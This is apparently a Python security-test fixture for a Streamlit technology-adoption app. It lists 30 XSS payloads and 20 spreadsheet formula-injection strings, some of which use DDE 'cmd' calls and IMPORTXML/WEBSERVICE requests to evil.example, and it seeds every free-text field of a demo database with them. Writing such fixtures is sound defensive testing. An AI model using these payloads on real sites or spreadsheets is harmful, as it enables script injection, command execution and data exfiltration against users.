"""Attack payloads for the security tests: 30 XSS strings and 20 formula-injection strings.

Every XSS payload that would run script calls ``__xss(n)`` (``n`` its number); the browser
tests install ``window.__xss`` with ``page.add_init_script`` and fail if it was ever called,
and fail on any dialog too (some payloads call ``alert``). Each payload is at most 290
characters, so it fits every free-text field (the shortest limit is 300), except the "very
long" one, which :func:`fit` cuts for short fields keeping its dangerous tail.

The formula payloads are what a spreadsheet would evaluate if the cell were written as is:
the exports must write each as inert text (see ``components.export``).
"""

from __future__ import annotations

import datetime as _dt
import inspect
from dataclasses import dataclass, field
from typing import Any

from sqlalchemy import Engine, select, update

from db import adoptions, approvals, clock, experts, meetings, technologies, testbeds
from db.models import (
    Adoption,
    Expert,
    Organization,
    Technology,
    Testbed,
    User,
)
from db.policy import Actor
from db.session import read_session, write_session
from tests.pdfs import real_pdf

XSS: tuple[str, ...] = (
    # 1-8: HTML tags and event handlers in several quotings
    "<script>alert(1)</script><script>__xss(1)</script>",
    "<img src=x onerror=__xss(2)><img src=x onerror=alert(2)>",
    "<svg onload=__xss(3)>",
    '"><script>__xss(4)</script>',
    "'><img src=x onerror='__xss(5)'>",
    '<img src="x" onerror="__xss(6)">',
    "<body onload=__xss(7)><details open ontoggle=__xss(7)>",
    "<input autofocus onfocus=__xss(8)><video><source onerror=__xss(8)></video>",
    # 9-16: javascript: and data: links, in Markdown and HTML, with entities and whitespace
    "[click me](javascript:__xss(9))",
    '<a href="javascript:__xss(10)">link</a>',
    "[x](&#106;avascript:__xss(11))",
    "[x]( JaVaScRiPt:__xss(12) )",
    '<a href="jav&#x09;ascript:__xss(13)">tab</a> <a href=" &#14; javascript:__xss(13)">x</a>',
    "[x](java\tscript:__xss(14)) [y](java\nscript:__xss(14))",
    "[d](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTUpPC9zY3JpcHQ+)",
    '<a href="data:text/html,<script>parent.__xss(16)</script>">d</a>',
    # 17-20: Markdown images, frames, embedded objects
    '![x](x" onerror="__xss(17))',
    "![x](javascript:__xss(18))",
    '<iframe srcdoc="<script>parent.__xss(19)</script>"></iframe>',
    '<object data="javascript:__xss(20)"></object><embed src="javascript:__xss(20)">',
    # 21-24: comments, mutation XSS, styles, meta refresh
    "<!--<img src=x onerror=__xss(21)>--><!-- --><img src=x onerror=__xss(21)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(22)></style></math>",
    "<style>@import 'javascript:__xss(23)';</style>"
    '<div style="background:url(javascript:__xss(23))">s</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss(24)">',
    # 25-28: Streamlit Markdown specifics: colour and icon directives, LaTeX, links and forms
    ":red[<img src=x onerror=__xss(25)>] :material/warning: **bold** ~~strike~~",
    "$\\href{javascript:__xss(26)}{click}$ $$\\url{javascript:__xss(26)}$$",
    "[Sign in again](https://evil.example/login) https://evil.example <mail@evil.example>",
    '<form action="javascript:__xss(28)"><button>go</button></form>'
    '<svg><a xlink:href="javascript:__xss(28)"><text>t</text></a></svg>',
    # 29: right-to-left override hiding the tag; 30: very long
    "\u202e<img src=x onerror=__xss(29)>\u202dfdp.exe",
    "A" * 250 + "<script>__xss(30)</script>",
)

FORMULA: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example","y")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    "\t=1",
    "\r=1",
    "=1+1",
    "   =1+1",
    "\uff1d1+1",  # full-width equals sign
    '=DDE("cmd";"/C calc";"!A0")',
    "+cmd|' /C notepad'!'B1'",
    "-2+3+cmd|' /C calc'!A0",
    '@HYPERLINK("http://evil.example","y")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "\n=1+1",
    '=WEBSERVICE("http://evil.example")',
    "\uff0b1\uff0b1",  # full-width plus signs
    "\u3000=1+1",  # ideographic space before the sign
    "=1+1;=2+2",
)

assert len(XSS) == 30 and len(FORMULA) == 20
assert all(len(p) <= 290 for p in XSS)

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def fit(payload: str, max_chars: int) -> str:
    """``payload`` cut to ``max_chars`` keeping its end (where the dangerous part is)."""
    return payload if len(payload) <= max_chars else payload[-max_chars:]


def formula_like(value: str) -> bool:
    """Would a spreadsheet read this cell text as a formula? (leading spaces ignored)."""
    return value.lstrip(" \u3000\u00a0").startswith(FORMULA_TRIGGERS) or value.startswith(
        FORMULA_TRIGGERS
    )


# --- a demo database with every payload in every free-text field -----------------------------

ENTRY_POINTS = """
Free-text fields a user fills (grep of the str parameters of the db/ write functions) and
where :func:`poison` puts the payloads (``i`` runs over all 30):
- organisations: add_organization(name_ko, name_en); experts: add_expert(name, name_en,
  position), edit_expert(..., reason);
- technologies: register_technology(title_ko, title_en, summary), edit_technology(...,
  reason), move_technology(reason), propose_technology_end(reason);
- adoptions: propose_adoption(project_name, department, justification),
  edit_adoption(reason), decide_adoption(comment);
- testbeds: propose_testbed_step(site, reason), edit_testbed(site, reason),
  decide_proposal(comment);
- meetings: schedule_meeting(title, location), declare_conflict(note), recuse(reason),
  appoint_member(reason), record_evaluation(comment, reason), record_decision(reason),
  record_minutes(minutes), add_correction(text);
- accounts: create_user(display_name);
- inquiries: log_inquiry(topic, contact_name, note), add_followup(note);
- agreements: create_agreement(title_ko, title_en, scope).
"""

XSS_USER_PASSWORD = "Harbour-lantern-2026!"
PASSING_SCORES = {
    "novelty": 85,
    "progressiveness": 82,
    "applicability": 80,
    "economy": 78,
    "diffusion": 80,
}


@dataclass
class Poisoned:
    """Handles to the records :func:`poison` wrote (ids for the detail views)."""

    technology_ids: list[int] = field(default_factory=list)
    adoption_ids: list[int] = field(default_factory=list)
    expert_ids: list[int] = field(default_factory=list)
    meeting_ids: list[int] = field(default_factory=list)
    full_meeting_id: int = 0
    inquiry_ids: list[int] = field(default_factory=list)
    agreement_ids: list[int] = field(default_factory=list)
    pending_adoption_keys: list[str] = field(default_factory=list)
    stored: set[str] = field(default_factory=set)  # every payload as stored (stripped)
    skipped: list[str] = field(default_factory=list)


def demo_actor(engine: Engine, username: str) -> Actor:
    with read_session(engine) as s:
        user = s.execute(select(User).where(User.username == username)).scalar_one()
        return Actor(user.id, user.username, user.role_names, user.display_name)


def call(engine: Engine, fn: Any, actor: Actor, /, **kwargs: Any) -> Any:
    """Call a ``db/`` write as ``actor`` in its own transaction, as a page would."""
    with write_session(engine) as s:
        return fn(session=s, actor=actor, **kwargs)


def put_under_review(engine: Engine, adoption_id: int) -> None:
    """Proposed -> under_review. Placing an adoption on a meeting's agenda is meant to do
    this (being built in the workflow work); until it does, the step is made here directly,
    as the agenda placement would leave it."""
    with write_session(engine) as s:
        s.execute(
            update(Adoption)
            .where(Adoption.id == adoption_id, Adoption.status == "proposed")
            .values(status="under_review", review_on=clock.city_today())
        )


def recommend(
    engine: Engine,
    staff: Actor,
    adoption_ids: list[int],
    *,
    title: str = "",
    location: str = "",
    texts: tuple[str, ...] = (),
) -> int:
    """Hold an adoption-review meeting on ``adoption_ids`` through the ``db.meetings``
    writes (agenda, draw, hold, attendance, scores, decision "passed", close) so that an
    approver may approve them; ``texts`` feed the free-text fields of the meeting. Returns
    the meeting id."""
    texts = texts or ("Recommended by the panel.",)
    t = lambda n: texts[n % len(texts)]  # noqa: E731
    today = clock.city_today()
    meeting_id = call(
        engine,
        meetings.schedule_meeting,
        staff,
        kind="adoption_review",
        title=title or "Adoption review",
        scheduled_on=today,
        location=location or None,
    )
    for adoption_id in adoption_ids:
        call(
            engine, meetings.add_agenda_item, staff, meeting_id=meeting_id, adoption_id=adoption_id
        )
        put_under_review(engine, adoption_id)
    draw = call(
        engine,
        meetings.draw_and_seat_panel,
        staff,
        meeting_id=meeting_id,
        seed=20190808,
        drawn_on=today,
    )
    call(engine, meetings.hold_meeting, staff, meeting_id=meeting_id, held_on=today)
    members = list(draw.expert_ids)
    for expert_id in members:
        call(
            engine,
            meetings.record_attendance,
            staff,
            meeting_id=meeting_id,
            expert_id=expert_id,
            attended=True,
        )
    # One member declares an interest judged no conflict (the note is free text).
    call(
        engine,
        meetings.declare_conflict,
        staff,
        meeting_id=meeting_id,
        expert_id=members[0],
        note=t(1),
        recuse=False,
    )
    with read_session(engine) as s:
        from db.models import AgendaItem

        items = list(
            s.execute(
                select(AgendaItem.id)
                .where(AgendaItem.meeting_id == meeting_id)
                .order_by(AgendaItem.position)
            ).scalars()
        )
    n = 0
    for item_id in items:
        for expert_id in members:
            call(
                engine,
                meetings.record_evaluation,
                staff,
                item_id=item_id,
                expert_id=expert_id,
                scores=PASSING_SCORES,
                comment=t(n),
                reason=t(n + 1),
                sheet_name="score-sheet.pdf",
                sheet=real_pdf(),
            )
            n += 1
        call(
            engine, meetings.record_decision, staff, item_id=item_id, reason=t(n), decision="passed"
        )
        n += 1
    call(engine, meetings.close_meeting, staff, meeting_id=meeting_id, minutes="\n\n".join(texts))
    return int(meeting_id)


def poison(engine: Engine, payloads: tuple[str, ...] = XSS) -> Poisoned:
    """Write every payload into every free-text field of a seeded demo database through the
    ``db/`` write functions (see :data:`ENTRY_POINTS`), as staff, a second staff member, an
    approver and an administrator. Returns handles to what was written."""
    out = Poisoned()
    staff = demo_actor(engine, "staff.demo")
    staff2 = demo_actor(engine, "staff2.demo")
    approver = demo_actor(engine, "approver.demo")
    admin = demo_actor(engine, "admin.demo")
    today = clock.city_today()
    k = len(payloads)
    p = lambda n, limit=4000: fit(payloads[n % k], limit)  # noqa: E731
    out.stored = {fit(x, 4000).strip() for x in payloads}

    # Organisations and experts through the staff forms' writes (names unique per kind: a
    # number is added at the end, the payload's start is kept).
    org_ids = []
    for n in range(k):
        org_ids.append(
            call(engine, experts.add_organization, staff, name_ko=p(n, 190) + f" #{n}",
                 name_en=p(n + 1, 190) + f" #{n}", kind="company", region="KR-27",
                 is_local=True)
        )  # fmt: skip
    for n in range(k):
        expert_id = call(
            engine, experts.add_expert, staff, name=p(n, 100), name_en=p(n + 2, 100),
            position=p(n + 3, 100), organization_id=org_ids[n], affiliation="industry",
            fields=["roads"], registered_on=_dt.date(2019, 1, 2), phone="010-0000-0000",
            email=f"x{n}@example.org",
        )  # fmt: skip
        out.expert_ids.append(expert_id)
    for n, expert_id in enumerate(out.expert_ids[:5]):
        call(engine, experts.edit_expert, staff2, expert_id=expert_id, name=p(n, 100),
             name_en=p(n + 2, 100), position=p(n + 5, 100), organization_id=org_ids[n],
             affiliation="industry", fields=["roads"], phone="010-0000-0001",
             email=f"x{n}@example.org", reason=p(n + 6),
             **_version_of(engine, experts.edit_expert, Expert, expert_id))  # fmt: skip

    # Technologies: registered through the staff form's write, moved with a reason.
    for n in range(k):
        tech_id, _reg = call(
            engine,
            technologies.register_technology,
            staff,
            title_ko=p(n, 300),
            title_en=p(n + 1, 300),
            owner_org_id=org_ids[n],
            field="roads",
            summary=p(n + 2),
        )
        out.technology_ids.append(tech_id)
        if n % 3 == 1:
            edit = technologies.edit_technology
            call(engine, edit, staff2, tech_id=tech_id, title_ko=p(n, 300),
                 title_en=p(n + 1, 300), field="roads", growth_sector="none",
                 certification="none", summary=p(n + 4), reason=p(n + 5),
                 **_version_of(engine, edit, Technology, tech_id))  # fmt: skip
        if n % 3 == 0:
            call(
                engine,
                technologies.move_technology,
                staff,
                tech_id=tech_id,
                to="screening",
                expected="submitted",
                reason=p(n + 3),
            )

    # Adoptions of registered demo technologies.
    with read_session(engine) as s:
        registered = list(
            s.execute(
                select(Technology.id)
                .where(Technology.status == "registered")
                .order_by(Technology.id)
            ).scalars()
        )
    year = adoptions.year_bounds()[0] + 1
    for n in range(k + 5):
        adoption_id = call(
            engine,
            adoptions.propose_adoption,
            staff,
            technology_id=registered[n],
            project_name=p(n, 300),
            department=p(n + 1, 200),
            budget_krw=100_000_000,
            year=year,
            justification=p(n + 2),
        )
        out.adoption_ids.append(adoption_id)
    for n, adoption_id in enumerate(out.adoption_ids[:k]):
        call(
            engine,
            adoptions.edit_adoption,
            staff2,
            adoption_id=adoption_id,
            expected="proposed",
            project_name=p(n, 300),
            department=p(n + 1, 200),
            budget_krw=120_000_000,
            year=year,
            justification=p(n + 2),
            reason=p(n + 4),
            **_version_of(engine, adoptions.edit_adoption, Adoption, adoption_id),
        )
    # One full adoption-review meeting: its fields carry every payload; it recommends the
    # first adoption, which the approver then approves with a payload comment.
    out.full_meeting_id = recommend(
        engine, staff, out.adoption_ids[:1], title=p(5, 300), location=p(6, 200), texts=payloads
    )
    out.meeting_ids.append(out.full_meeting_id)
    for n in range(k):
        call(engine, meetings.add_correction, staff, meeting_id=out.full_meeting_id, text=p(n))
    call(
        engine,
        adoptions.decide_adoption,
        approver,
        adoption_id=out.adoption_ids[0],
        decision="approve",
        comment=p(0),
    )
    for n, adoption_id in enumerate(out.adoption_ids[1:k], start=1):
        put_under_review(engine, adoption_id)
        call(
            engine,
            adoptions.decide_adoption,
            approver,
            adoption_id=adoption_id,
            decision="reject" if n % 2 else "return",
            comment=p(n),
        )
    for adoption_id in out.adoption_ids[k:]:
        put_under_review(engine, adoption_id)
        out.pending_adoption_keys.append(f"adoption:{adoption_id}")

    # Scheduled meetings with payload titles and places; a member appointed with a reason.
    for n in range(k):
        out.meeting_ids.append(
            call(
                engine,
                meetings.schedule_meeting,
                staff,
                kind="registration_review",
                title=p(n, 300),
                scheduled_on=today + _dt.timedelta(days=30),
                location=p(n + 7, 200),
            )
        )

    # Testbed steps proposed with a site and reason; one declined with a comment.
    with read_session(engine) as s:
        selected = list(
            s.execute(
                select(Testbed.id).where(Testbed.status == "selected").order_by(Testbed.id)
            ).scalars()
        )
    for n, testbed_id in enumerate(selected):
        proposal_id = call(
            engine,
            approvals.propose_testbed_step,
            staff,
            testbed_id=testbed_id,
            to="in_progress",
            expected="selected",
            reason=p(n + 8),
            site=p(n + 9, 300),
            started_on=today,
            planned_end_on=today + _dt.timedelta(days=90),
        )
        if n == 0:
            call(
                engine,
                approvals.decide_proposal,
                approver,
                proposal_id=proposal_id,
                decision="reject",
                comment=p(n + 10),
            )
    for n, testbed_id in enumerate(selected):
        call(
            engine,
            testbeds.edit_testbed,
            staff2,
            testbed_id=testbed_id,
            site=p(n + 12, 300),
            reason=p(n + 13),
            **_version_of(engine, testbeds.edit_testbed, Testbed, testbed_id),
        )
    # Ending a registration, proposed with a reason (waits for an approver).
    call(
        engine,
        approvals.proposals.propose_technology_end,
        staff,
        tech_id=registered[-1],
        to="withdrawn",
        expected="registered",
        reason=p(11),
    )

    # Accounts whose display names are payloads (Markdown ones: the name is shown in
    # sentences); the first can sign in with XSS_USER_PASSWORD (it must change it first).
    for n, index in enumerate((8, 24, 26)):
        call(
            engine,
            _create_user,
            admin,
            username=f"xss.user{n}",
            display_name=p(index, 120),
            roles=["staff"],
            password=XSS_USER_PASSWORD,
        )

    _poison_inquiries(engine, staff, p, k, out)
    _poison_agreements(engine, staff, p, k, org_ids, out)
    return out


def _version_of(engine: Engine, fn: Any, model: Any, record_id: int) -> dict[str, int]:
    """``{"version": n}`` when the write takes the record's version (lost-edit check)."""
    if "version" not in inspect.signature(fn).parameters:
        return {}
    with read_session(engine) as s:
        record = s.get(model, record_id)
        assert record is not None
        return {"version": int(record.version)}


def _create_user(*, session: Any, actor: Actor, **kwargs: Any) -> Any:
    from db import accounts

    return accounts.create_user(session=session, actor=actor, **kwargs)


def _poison_inquiries(engine: Engine, staff: Actor, p: Any, k: int, out: Poisoned) -> None:
    """Inquiries and their follow-ups, when the inter-city module exists."""
    try:
        from db.intercity import inquiries
    except ImportError:
        out.skipped.append("inquiries (db.intercity not present)")
        return
    with read_session(engine) as s:
        org_id = (
            s.execute(select(Organization.id).order_by(Organization.id.desc())).scalars().first()
        )
    today = clock.city_today()
    for n in range(k):
        inquiry_id = call(
            engine,
            inquiries.log_inquiry,
            staff,
            received_on=today,
            channel="email",
            topic=p(n, 200),
            org_id=org_id,
            contact_name=p(n + 1, 100),
            note=p(n + 2),
        )
        call(
            engine,
            inquiries.add_followup,
            staff,
            inquiry_id=inquiry_id,
            followed_on=today,
            note=p(n + 3),
        )
        out.inquiry_ids.append(inquiry_id)


def _poison_agreements(
    engine: Engine, staff: Actor, p: Any, k: int, org_ids: list[int], out: Poisoned
) -> None:
    """Agreements (title, scope), when the inter-city module has them."""
    try:
        from db.intercity import agreements
    except ImportError:
        out.skipped.append("agreements (db.intercity.agreements not present)")
        return
    today = clock.city_today()
    for n in range(k):
        out.agreement_ids.append(
            call(engine, agreements.create_agreement, staff, kind="mou", status="planned",
                 title_ko=p(n, 300), title_en=p(n + 1, 300), scope=p(n + 2),
                 planned_on=today, partner_org_id=org_ids[n])
        )  # fmt: skip
